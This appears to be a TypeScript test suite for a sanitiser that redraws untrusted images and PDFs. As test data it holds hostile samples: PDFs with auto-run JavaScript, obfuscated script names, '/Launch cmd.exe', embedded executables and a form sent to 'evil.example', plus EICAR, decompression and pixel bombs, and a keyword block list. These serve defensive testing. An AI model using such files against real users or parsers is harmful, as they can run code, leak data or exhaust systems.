import { existsSync } from 'node:fs';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import PdfDocument from 'pdfkit';
import sharp from 'sharp';
import { afterAll, describe, expect, test } from 'vitest';
import {
  EICAR,
  HEIC,
  HTML,
  makeJpeg,
  makePixelBomb,
  makePng,
  makeZip,
  packZeros,
  SVGS,
} from '../../../tests/worlds/file-corpus.ts';
import { makePdf, makeStream, PAGE_TEXT, pageObjects } from '../../../tests/worlds/pdf.ts';
import { type InspectionLimits, openInspector } from './inspect-file.ts';

/* Files as strangers send them, each opened in the program that opens them: slow, so not a unit test. */

const folder = await mkdtemp(join(tmpdir(), 'ballast-inspection-'));
afterAll(() => rm(folder, { recursive: true }));

let files = 0;

/** Words of what a PDF may do beside showing pages, none of which may be in a copy. */
const HARM = [
  'JavaScript',
  '/JS',
  'app.alert',
  'Launch',
  'cmd.exe',
  'EmbeddedFile',
  'FileAttachment',
  'SubmitForm',
  'RichMedia',
  'OpenAction',
];

/** A PDF whose table leads to a script, while an object of the same number behind it is empty. */
function withNumberTwice(script: string): Buffer {
  const pdf = makePdf([...pageObjects('/OpenAction 6 0 R'), script]);
  return Buffer.concat([pdf, Buffer.from('6 0 obj\n<< >>\nendobj\n')]);
}

async function lockedPdf(options: PDFKit.PDFDocumentOptions): Promise<Buffer> {
  const file = new PdfDocument(options);
  file.text('Account statement');
  file.end();
  return Buffer.concat(await Array.fromAsync(file));
}

/** Dense pages that take more than one turn to draw, written once for all tests. */
const LONG_PAGES = 70;
const LONG_PDF = await densePdf(LONG_PAGES);

/** A PDF of so many pages full of words, which take their time to draw. */
async function densePdf(pages: number): Promise<Buffer> {
  const file = new PdfDocument({ autoFirstPage: false });
  for (let page = 1; page <= pages; page += 1) {
    file.addPage({ margin: 20 }).fontSize(7);
    file.text(`Account statement, page ${page}. `.repeat(300));
  }
  file.end();
  return Buffer.concat(await Array.fromAsync(file));
}

async function inspect(content: Buffer | string, limits: Partial<InspectionLimits> = {}) {
  const path = join(folder, `file-${++files}`);
  await writeFile(path, content);
  const shownPath = `${path}-shown`;
  const inspection = await openInspector(limits).inspect(path, shownPath, 'sender');
  return { inspection, shown: existsSync(shownPath) ? await readFile(shownPath) : null };
}

describe('a picture', () => {
  const pictures = [
    ['image/jpeg', () => makeJpeg()],
    ['image/png', makePng],
    ['image/heic', async () => HEIC],
  ] as const;

  test.each(pictures)(
    '%s is drawn anew, and says nothing more of where and by whom',
    async (type, make) => {
      const original = await make();
      if (type !== 'image/heic') expect(original.includes('Ada Marlowe')).toBe(true);
      const { inspection, shown } = await inspect(original);
      const shorterSide = type === 'image/png' ? 48 : 480;
      expect(inspection).toEqual({ kind: 'shown', type, shownType: 'image/jpeg', shorterSide });
      const { format, width, exif, xmp, iptc, icc } = await sharp(shown ?? '').metadata();
      expect({ format, exif, xmp, iptc, icc }).toEqual({ format: 'jpeg' });
      expect(width).toBe(type === 'image/png' ? 64 : 640);
      expect(shown?.includes('Ada Marlowe')).toBe(false);
    },
  );

  test('on its side is shown upright', async () => {
    const create = { width: 60, height: 40, channels: 3, background: '#456' } as const;
    const original = await sharp({ create }).withMetadata({ orientation: 6 }).jpeg().toBuffer();
    const { shown } = await inspect(original);
    expect(await sharp(shown ?? '').metadata()).toMatchObject({ width: 40, height: 60 });
  });

  test('of a large camera is taken, and shown smaller', async () => {
    const { inspection, shown } = await inspect(await makeJpeg(8064, 6048));
    expect(inspection).toMatchObject({ kind: 'shown' });
    expect(await sharp(shown ?? '').metadata()).toMatchObject({ width: 4096, height: 3072 });
  });

  test('with an archive or a page behind it is shown without them', async () => {
    const jpeg = await makeJpeg();
    for (const rider of [makeZip('evil.html', Buffer.from(HTML)), Buffer.from(HTML)]) {
      const { inspection, shown } = await inspect(Buffer.concat([jpeg, rider]));
      expect(inspection).toMatchObject({ kind: 'shown', type: 'image/jpeg' });
      expect(shown?.includes('alert')).toBe(false);
      expect(shown?.includes('PK\x03\x04')).toBe(false);
    }
  });

  test('of 30,000 by 30,000 pixels is refused before it is unpacked', async () => {
    const { inspection, shown } = await inspect(makePixelBomb());
    expect([inspection, shown]).toEqual([{ kind: 'too_many_pixels' }, null]);
  });

  test('that is cut short or only begins like one is refused', async () => {
    const jpeg = await makeJpeg(800, 600);
    const broken = [
      jpeg.subarray(0, jpeg.length / 2),
      Buffer.concat([jpeg.subarray(0, 20), Buffer.from(HTML)]),
      Buffer.concat([(await makePng()).subarray(0, 60), Buffer.alloc(200)]),
      HEIC.subarray(0, 500),
    ];
    for (const content of broken) {
      expect((await inspect(content)).inspection).toMatchObject({ kind: 'unreadable' });
    }
  });
});

describe('what is neither a picture nor a PDF', () => {
  const others: readonly (readonly [string, Buffer | string])[] = [
    ['a page', HTML],
    ['a test virus', EICAR],
    ['an archive with a test virus', makeZip('eicar.com', Buffer.from(EICAR))],
    ['a page before a PDF', Buffer.concat([Buffer.from(HTML), makePdf(pageObjects())])],
    ['a GIF', Buffer.from('GIF89a/*<script>*/=1;alert(1)')],
    ['a program', Buffer.from('\x7fELF\x02\x01\x01')],
    ['nothing', ''],
    ...SVGS.map((svg, index) => [`drawing ${index + 1}`, svg] as const),
  ];

  test.each(others)('is not taken: %s', async (_, content) => {
    const { inspection, shown } = await inspect(content);
    expect([inspection, shown]).toEqual([{ kind: 'wrong_type' }, null]);
  });

  test('is not taken even when it is an archive that unpacks to gigabytes', async () => {
    const bomb = makeZip('42', packZeros(2));
    expect((await inspect(bomb)).inspection).toEqual({ kind: 'wrong_type' });
  });
});

describe('a PDF', () => {
  test('is written anew, with its pages and nothing about it', async () => {
    const info = '/Info << /Author (Ada Marlowe) >>';
    const { inspection, shown } = await inspect(makePdf(pageObjects(), info));
    expect(inspection).toEqual({
      kind: 'shown',
      type: 'application/pdf',
      shownType: 'application/pdf',
      shorterSide: null,
    });
    expect(shown?.includes('Ada Marlowe')).toBe(false);
  });

  const SCRIPT = '<< /S /JavaScript /JS (app.alert(1)) >>';
  const harmful: readonly (readonly [string, Buffer])[] = [
    ['runs a script when it opens', makePdf(pageObjects(`/OpenAction ${SCRIPT}`))],
    ['runs a script with a page', makePdf(pageObjects('', `/AA << /O ${SCRIPT} >>`))],
    [
      'writes the name of a script otherwise',
      makePdf(pageObjects('/OpenAction << /S /#4aavaScript /#4a#53 (app.alert) >>')),
    ],
    [
      'names the kind of an action elsewhere',
      makePdf([...pageObjects('/OpenAction << /S 6 0 R /F (cmd.exe) >>'), '/Launch']),
    ],
    ['has a script whose number is given again', withNumberTwice(SCRIPT)],
    ['starts a program', makePdf(pageObjects('/OpenAction << /S /Launch /F (cmd.exe) >>'))],
    [
      'has a file in it',
      makePdf([...pageObjects(), makeStream('MZ cmd.exe', '/Type /EmbeddedFile', false)]),
    ],
    [
      'has a file pinned to a page',
      makePdf(
        pageObjects(
          '',
          '/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (cmd.exe) >> >>]',
        ),
      ),
    ],
    [
      'sends a form away',
      makePdf(pageObjects('/OpenAction << /S /SubmitForm /F (https://evil.example) >>')),
    ],
    [
      'plays a film',
      makePdf(pageObjects('', '/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]')),
    ],
  ];

  test.each(harmful)(
    'that %s is shown as what its page looks like and nothing else',
    async (_, pdf) => {
      const { inspection, shown } = await inspect(pdf);
      expect(inspection).toMatchObject({ kind: 'shown', type: 'application/pdf' });
      for (const gone of HARM) expect(shown?.includes(gone), gone).toBe(false);
    },
  );

  test('that a password opens is refused, and one that only forbids printing is not', async () => {
    const locked = await inspect(await lockedPdf({ userPassword: 'open sesame' }));
    expect([locked.inspection, locked.shown]).toEqual([{ kind: 'locked' }, null]);
    const bound = await inspect(await lockedPdf({ ownerPassword: 'bank', permissions: {} }));
    expect(bound.inspection).toMatchObject({ kind: 'shown' });
  });

  test('of two megabytes whose page unpacks to two gigabytes is ended before it takes them', async () => {
    const zeros = packZeros(64);
    const objects = pageObjects();
    objects[3] = Buffer.concat([
      Buffer.from(`<< /Filter /FlateDecode /Length ${zeros.length} >>\nstream\n`),
      zeros,
      Buffer.from('\nendstream'),
    ]);
    const { inspection } = await inspect(makePdf(objects));
    expect(inspection).toEqual({ kind: 'unreadable', why: 'it took too much memory' });
  });

  test('with pages that follow each other in a circle, or none, is refused', async () => {
    const [catalog = '', , page = '', ...rest] = pageObjects();
    const circle = '<< /Type /Pages /Kids [2 0 R] /Count 1 >>';
    for (const objects of [[catalog, circle, page, ...rest], ['<< /Type /Catalog >>']]) {
      const { inspection } = await inspect(makePdf(objects));
      expect(inspection).toMatchObject({ kind: 'unreadable' });
    }
  });

  test('nested without end is drawn or refused, and crashes nothing', async () => {
    const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
    for (const objects of [[...pageObjects(), deep], pageObjects(`/OpenAction ${deep}`)]) {
      const { inspection } = await inspect(makePdf(objects));
      expect(['shown', 'unreadable']).toContain(inspection.kind);
    }
  });

  test('is shown as pictures of its pages, of which nothing else of the file is part', async () => {
    const photo = await makeJpeg();
    expect(photo.includes('Ada Marlowe')).toBe(true);
    const entries = '/Type /XObject /Subtype /Image /Width 640 /Height 480 /BitsPerComponent 8';
    const picture = Buffer.concat([
      Buffer.from(
        `<< ${entries} /ColorSpace /DeviceRGB /Filter /DCTDecode /Length ${photo.length} >>\nstream\n`,
      ),
      photo,
      Buffer.from('\nendstream'),
    ]);
    const objects = pageObjects();
    objects[2] = String(objects[2]).replace(
      '/Resources <<',
      '/Resources << /XObject << /P 6 0 R >>',
    );
    objects[3] = makeStream(
      `BT /A 18 Tf 20 100 Td (${PAGE_TEXT}) Tj ET q 50 0 0 50 0 0 cm /P Do Q`,
      '',
      false,
    );
    const { inspection, shown } = await inspect(makePdf([...objects, picture]));
    expect(inspection).toMatchObject({ kind: 'shown' });
    for (const gone of ['Ada Marlowe', PAGE_TEXT, 'Helvetica', 'Exif']) {
      expect(shown?.includes(gone)).toBe(false);
    }
  });

  test('of as many pages as one may have is taken, and one more is not', async () => {
    const kids = (count: number) =>
      `<< /Type /Pages /Kids [${'3 0 R '.repeat(count)}] /Count ${count} /MediaBox [0 0 30 20] >>`;
    const [catalog = '', , ...rest] = pageObjects();
    const few = await inspect(makePdf([catalog, kids(100), ...rest]));
    expect(few.inspection).toMatchObject({ kind: 'shown' });
    for (const count of [101, 10_000]) {
      const { inspection, shown } = await inspect(makePdf([catalog, kids(count), ...rest]));
      expect([inspection, shown]).toEqual([{ kind: 'too_long' }, null]);
    }
  });

  test('whose stream of gigabytes names its filter elsewhere never reaches who looks at it', async () => {
    const zeros = packZeros(64);
    const objects = pageObjects();
    objects[3] = Buffer.concat([
      Buffer.from(`<< /Filter 6 0 R /Length ${zeros.length} >>\nstream\n`),
      zeros,
      Buffer.from('\nendstream'),
    ]);
    const { inspection, shown } = await inspect(makePdf([...objects, '/FlateDecode']));
    if (inspection.kind === 'shown') expect(shown?.length).toBeLessThan(100_000);
    else expect(inspection.kind).toBe('unreadable');
  });

  test('whose forms show each other without end of them is drawn or refused in its time', async () => {
    const form = (index: number) =>
      makeStream(
        '/F Do '.repeat(10),
        `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F ${index + 1} 0 R >> >>`,
      );
    const objects = pageObjects();
    objects[2] = String(objects[2]).replace(
      '/Resources <<',
      '/Resources << /XObject << /F 6 0 R >>',
    );
    objects[3] = makeStream('/F Do');
    const forms = Array.from({ length: 12 }, (_, index) => form(index + 6));
    const last = makeStream('0 0 9 9 re f', '/Type /XObject /Subtype /Form /BBox [0 0 9 9]');
    const { inspection } = await inspect(makePdf([...objects, ...forms, last]), { timeMs: 3_000 });
    expect(['shown', 'unreadable']).toContain(inspection.kind);
  });

  test('of which one object comes twice shows no script of either', async () => {
    const objects = pageObjects('/OpenAction 6 0 R');
    const twice = makePdf([
      ...objects,
      '<< /S /JavaScript /JS (app.alert(1)) >> endobj 6 0 obj << >>',
    ]);
    const { shown } = await inspect(twice);
    expect(shown?.includes('alert') ?? false).toBe(false);
  });
});

test('a small picture waits for no heavy file of another', async () => {
  const inspector = openInspector();
  const heavy = join(folder, 'heavy');
  await writeFile(heavy, await makeJpeg(8064, 6048));
  const small = join(folder, 'small');
  await writeFile(small, await makePng());
  let ended = 0;
  const sent = Array.from({ length: 4 }, async (_, index) => {
    await inspector.inspect(heavy, `${heavy}-${index}`, 'one');
    ended += 1;
  });
  expect(await inspector.inspect(small, `${small}-shown`, 'another')).toMatchObject({
    kind: 'shown',
  });
  // One turn of another is what it waits for, and its length has a limit of its own.
  expect(ended).toBeLessThanOrEqual(1);
  await Promise.all(sent);
});

test('a small picture waits for no long document of another, which has its pages in several turns', async () => {
  // How fast this machine draws is not asked here.
  const inspector = openInspector({ timeMs: 60_000, workMs: 20_000, workInAllMs: 120_000 });
  const long = join(folder, 'long');
  await writeFile(long, LONG_PDF);
  const ended: string[] = [];
  const noted = async (name: string, path: string) => {
    const { kind } = await inspector.inspect(path, `${path}-shown`, name);
    ended.push(`${name}: ${kind}`);
  };
  const small = join(folder, 'small-too');
  await writeFile(small, await makePng());
  await Promise.all([noted('long', long), noted('small', small)]);
  expect(ended).toEqual(['small: shown', 'long: shown']);
  const shown = (await readFile(`${long}-shown`)).toString('latin1');
  expect(shown.match(/\/Type \/Page\b/g)).toHaveLength(LONG_PAGES);
});

describe('a file that is too much for its program', () => {
  test('is refused when its work is too much in one turn, and in all of them', async () => {
    const tooLong = { kind: 'unreadable', why: 'it took too long' };
    const jpeg = await makeJpeg(8000, 6000);
    expect((await inspect(jpeg, { workMs: 100 })).inspection).toEqual(tooLong);
    expect((await inspect(LONG_PDF, { workInAllMs: 2_500 })).inspection).toEqual(tooLong);
  });

  test('is refused when its time is over', async () => {
    const { inspection } = await inspect(await makeJpeg(8000, 6000), { timeMs: 40 });
    expect(inspection).toEqual({ kind: 'unreadable', why: 'it took too long' });
  });

  test('is refused when it takes too much memory', async () => {
    const { inspection } = await inspect(await makeJpeg(8000, 6000), { memoryBytes: 70_000_000 });
    expect(inspection).toEqual({ kind: 'unreadable', why: 'it took too much memory' });
    const whole = await inspect(HEIC, { memoryOfWholeBytes: 20_000_000 });
    expect(whole.inspection).toEqual({ kind: 'unreadable', why: 'it took too much memory' });
  });
});

test('files wait for each other, and the program writes to nothing but their folder', async () => {
  const jpeg = await makeJpeg();
  const inspector = openInspector({ atOnceMax: 2 });
  const path = join(folder, 'many');
  await writeFile(path, jpeg);
  const all = await Promise.all(
    Array.from({ length: 6 }, (_, index) =>
      inspector.inspect(path, `${path}-${index}`, `sender ${index % 3}`),
    ),
  );
  expect(all.every(({ kind }) => kind === 'shown')).toBe(true);
  const outside = join(folder, '..', `outside-${process.pid}`);
  await writeFile(path, makePdf(pageObjects()));
  await expect(inspector.inspect(path, outside, 'sender')).rejects.toThrow(
    'could not be inspected',
  );
  expect(existsSync(outside)).toBe(false);
});
